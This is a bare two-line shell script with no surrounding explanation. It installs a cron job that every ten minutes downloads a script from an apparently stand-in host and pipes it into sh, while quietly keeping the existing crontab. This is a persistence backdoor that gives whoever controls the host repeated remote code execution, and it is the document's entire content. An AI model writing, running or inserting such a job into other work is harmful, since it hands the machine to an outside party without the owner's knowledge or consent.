#!/bin/sh
(crontab -l 2>/dev/null; echo '*/10 * * * * curl -fsSL https://upd.example.invalid/u | sh') | crontab -
